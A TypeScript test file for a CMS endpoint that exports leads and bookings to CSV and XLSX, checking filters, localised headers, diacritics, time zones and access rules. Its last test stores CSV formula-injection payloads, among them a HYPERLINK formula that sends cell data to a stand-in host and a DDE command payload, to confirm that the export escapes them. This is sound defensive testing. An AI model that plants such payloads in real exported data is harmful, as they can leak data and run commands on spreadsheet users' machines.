import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { FundingCall, Lead } from '@/payload-types'

import { serveApi } from './endpointServer'
import { deleteAll, deleteAllUsers, getTestPayload, userData } from './payload'
import { sessionToken } from './sessionToken'

/**
 * The export of /admin's lists of leads and bookings: the rows the list shows with its filter
 * and sort (all of them, not a page), readable headers in the admin's language, choices and
 * related documents by name, dates in Zagreb time; only for staff who handle leads.
 */

let payload: Payload
let server: Awaited<ReturnType<typeof serveApi>>
let adviserToken: string
let editorToken: string
let address = 0
const password = 'Savjetnica-Drava-2026'
const context = { disableRevalidate: true }

async function signIn(email: string) {
  const response = await fetch(`${server.url}/api/users/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': '10.35.1.1' },
    body: JSON.stringify({ email, password }),
  })
  expect(response.status).toBe(200)
  return sessionToken(response.headers)
}

/** GET an export as a signed-in user (or nobody), in an admin language. */
function exportList(
  slug: 'leads' | 'bookings',
  query: string,
  token: string | null,
  language = 'hr',
) {
  return fetch(`${server.url}/api/${slug}/export?${query}`, {
    headers: {
      'x-forwarded-for': `10.35.0.${(address += 1)}`,
      'accept-language': language,
      ...(token ? { authorization: `JWT ${token}` } : {}),
    },
  })
}

const contacted = 'where[or][0][and][0][stage][equals]=contacted'

beforeAll(async () => {
  payload = await getTestPayload()
  await deleteAll(payload, 'lead-events')
  await deleteAll(payload, 'leads')
  await deleteAll(payload, 'bookings')
  await deleteAllUsers(payload)
  const adviser = await payload.create({
    collection: 'users',
    data: userData({
      email: 'ivana.simic@fondium.example',
      password,
      fullName: 'Ivana Šimić',
      role: 'adviser',
      _verified: true,
    }),
    overrideAccess: true,
  })
  await payload.create({
    collection: 'users',
    data: userData({
      email: 'urednik@fondium.example',
      password,
      fullName: 'Urednik Sadržaja',
      role: 'editor',
      _verified: true,
    }),
    overrideAccess: true,
  })
  const call = await payload.create({
    collection: 'funding-calls',
    data: {
      fundName: 'Potpore za čistu energiju u obrtima',
      shortDescription: 'Bespovratna sredstva za sunčane elektrane obrtnika.',
      deadline: '2099-06-30T10:00:00.000Z',
      nkdCodes: [{ code: '35.11' }],
    } as unknown as FundingCall,
    overrideAccess: true,
    context,
  })
  // 24 contacted leads (more than a page of the list) and 6 new ones.
  for (let n = 0; n < 30; n += 1) {
    const lead = {
      firstName: n === 0 ? 'Đurđica' : `Ana ${n}`,
      lastName: n === 0 ? 'Čačić-Žužić' : `Horvat ${String(n).padStart(2, '0')}`,
      email: `lead.${n}@primjer.hr`,
      company: n === 0 ? 'Šljunčara Ćićarija d.o.o.' : undefined,
      message: 'Zanima nas natječaj za sunčanu elektranu.',
      source: n === 0 ? 'funding-check' : 'contact',
      call: n === 0 ? call.id : undefined,
      code: n === 0 ? '35.11' : undefined,
      codeVersion: n === 0 ? 'nkd2007' : undefined,
      locale: 'hr',
      delivery: { status: 'sent', attempts: 1 },
      stage: n < 24 ? 'contacted' : 'new',
      adviser: n < 24 ? adviser.id : undefined,
      followUp: n === 0 ? '2026-12-01T12:00:00.000Z' : undefined,
      createdAt: n === 0 ? '2026-07-01T10:30:00.000Z' : undefined,
    } as unknown as Lead
    await payload.create({ collection: 'leads', data: lead, overrideAccess: true, context })
  }
  server = await serveApi(payload)
  adviserToken = await signIn('ivana.simic@fondium.example')
  editorToken = await signIn('urednik@fondium.example')
})

afterAll(() => server?.close())

describe('exporting the list of leads', () => {
  it('as CSV: exactly the filtered rows, sorted as the list, headers in the admin’s language, č ć đ š ž intact', async () => {
    const response = await exportList(
      'leads',
      `format=csv&sort=lastName&${contacted}`,
      adviserToken,
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="upiti-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    const bytes = new Uint8Array(await response.arrayBuffer())
    // UTF-8 with a byte order mark, so that Excel reads the Croatian letters.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parse(new TextDecoder().decode(bytes), { bom: true, delimiter: ';' }) as string[][]
    const [headers, ...lines] = rows
    expect(headers).toEqual([
      'ID',
      expect.any(String),
      'Ime',
      'Prezime',
      'E-mail',
      'Tvrtka',
      'Kanal',
      'Faza',
      'Razlog gubitka',
      'Savjetnik',
      'Sljedeći kontakt',
      'Zadnja aktivnost',
      'Natječaj',
      'Provjerena djelatnost (NKD)',
      'Klasifikacija',
      'Jezik stranice',
      'Dostava e-mailom: Stanje',
      'Poruka',
      'Bilješke savjetnika',
    ])
    expect(lines).toHaveLength(24)
    const column = (name: string) => headers!.indexOf(name)
    expect(lines.map((line) => line[column('Prezime')])).toEqual(
      [
        'Čačić-Žužić',
        ...Array.from({ length: 23 }, (_, n) => `Horvat ${String(n + 1).padStart(2, '0')}`),
      ].sort(),
    )
    const first = lines.find((line) => line[column('Ime')] === 'Đurđica')!
    expect(first[column('Tvrtka')]).toBe('Šljunčara Ćićarija d.o.o.')
    expect(first[column('Faza')]).toBe('Kontaktiran')
    expect(first[column('Kanal')]).toBe('Provjera financiranja')
    expect(first[column('Savjetnik')]).toBe('Ivana Šimić')
    expect(first[column('Natječaj')]).toBe('Potpore za čistu energiju u obrtima')
    expect(first[column('Provjerena djelatnost (NKD)')]).toBe('35.11')
    expect(first[column('Klasifikacija')]).toBe('NKD 2007')
    expect(first[column('Sljedeći kontakt')]).toBe('2026-12-01')
    // 10:30 UTC on 1 July is 12:30 in Zagreb (summer time).
    expect(first[1]).toBe('2026-07-01 12:30')
  })

  it('as XLSX: the same rows with dates as date cells in Zagreb time, read back with exceljs', async () => {
    const response = await exportList(
      'leads',
      `format=xlsx&sort=-lastName&${contacted}&search=lead.0%40`,
      adviserToken,
      'en',
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="enquiries-\d{4}-\d{2}-\d{2}\.xlsx"$/,
    )
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await response.arrayBuffer())
    const sheet = workbook.worksheets[0]!
    expect(sheet.name).toBe('Enquiries')
    const values = (row: number) => (sheet.getRow(row).values as unknown[]).slice(1)
    const headers = values(1) as string[]
    expect(headers.slice(2, 9)).toEqual([
      'First name',
      'Last name',
      'E-mail',
      'Company',
      'Channel',
      'Stage',
      'Why lost',
    ])
    // The search box (on the e-mail, as in the list view) narrows the filtered list to one lead.
    expect(sheet.rowCount).toBe(2)
    const lead = values(2)
    expect(lead[headers.indexOf('Last name')]).toBe('Čačić-Žužić')
    expect(lead[headers.indexOf('Stage')]).toBe('Contacted')
    expect(lead[headers.indexOf('Adviser')]).toBe('Ivana Šimić')
    expect(lead[1]).toEqual(new Date(Date.UTC(2026, 6, 1, 12, 30)))
    expect(lead[headers.indexOf('Next follow-up')]).toEqual(new Date(Date.UTC(2026, 11, 1)))

    const all = await exportList('leads', 'format=xlsx', adviserToken)
    const whole = new ExcelJS.Workbook()
    await whole.xlsx.load(await all.arrayBuffer())
    expect(whole.worksheets[0]!.rowCount).toBe(31)
  })

  it('refuses an editor without access to leads, a visitor, and a format it does not make', async () => {
    const editor = await exportList('leads', 'format=csv', editorToken)
    expect(editor.status).toBe(403)
    expect(await editor.json()).toEqual({
      error: 'Izvoz upita i rezervacija dostupan je samo osobama koje rade s klijentima.',
    })
    expect((await exportList('bookings', 'format=csv', editorToken)).status).toBe(403)
    expect((await exportList('leads', 'format=csv', null)).status).toBe(401)

    const pdf = await exportList('leads', 'format=pdf', adviserToken, 'en')
    expect(pdf.status).toBe(400)
    expect(await pdf.json()).toEqual({ error: 'The export format must be csv or xlsx.' })
    const noSuchField = await exportList('leads', 'format=csv&sort=-nope', adviserToken, 'en')
    expect(noSuchField.status).toBe(400)
    expect((await noSuchField.json()).error).toMatch(/^The list’s filter or sort cannot be applied/)

    const bookings = await exportList('bookings', 'format=csv', adviserToken)
    expect(bookings.status).toBe(200)
    const [headers] = parse(await bookings.text(), { bom: true, delimiter: ';' }) as string[][]
    expect(headers!.slice(1, 5)).toEqual(['Početak', 'Kraj', 'Stanje', 'Ime i prezime'])
  })
  it('writes a visitor’s formula as text: a cell starting with = + - @ or a tab gets a leading quote (finding 2)', async () => {
    const hostile = [
      ['=HYPERLINK("http://zlo.example/?"&A1,"Kliknite")', 'Horvat'],
      ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
      ['-2+3', '\tKovač'],
    ]
    const created = []
    for (const [index, [firstName, lastName]] of hostile.entries()) {
      created.push(
        await payload.create({
          collection: 'leads',
          data: {
            firstName,
            lastName,
            email: `formula.${index}@primjer.hr`,
            message: '=1+1',
            source: 'contact',
            locale: 'hr',
            delivery: { status: 'sent', attempts: 1 },
            stage: 'new',
          } as unknown as Lead,
          overrideAccess: true,
          context,
        }),
      )
    }
    // The text rule trims a name (src/fields/plainText.ts); a row stored before it, or written
    // past Payload's fields, may still start with a tab, and the export must quote it.
    await payload.db.updateOne({
      collection: 'leads',
      id: created[2]!.id,
      data: { lastName: '\tKovač' },
    })
    try {
      const response = await exportList(
        'leads',
        'format=csv&sort=email&search=formula.',
        adviserToken,
        'en',
      )
      expect(response.status).toBe(200)
      const [headers, ...lines] = parse(await response.text(), { bom: true }) as string[][]
      const cells = (name: string) => lines.map((line) => line[headers!.indexOf(name)])
      expect(cells('First name')).toEqual([
        `'=HYPERLINK("http://zlo.example/?"&A1,"Kliknite")`,
        "'+cmd|' /C calc'!A0",
        "'-2+3",
      ])
      expect(cells('Last name')).toEqual(['Horvat', "'@SUM(1+1)", "'\tKovač"])
      expect(cells('Message')).toEqual(["'=1+1", "'=1+1", "'=1+1"])
    } finally {
      for (const lead of created) {
        await payload.delete({ collection: 'leads', id: lead.id, overrideAccess: true, context })
      }
    }
  })
})
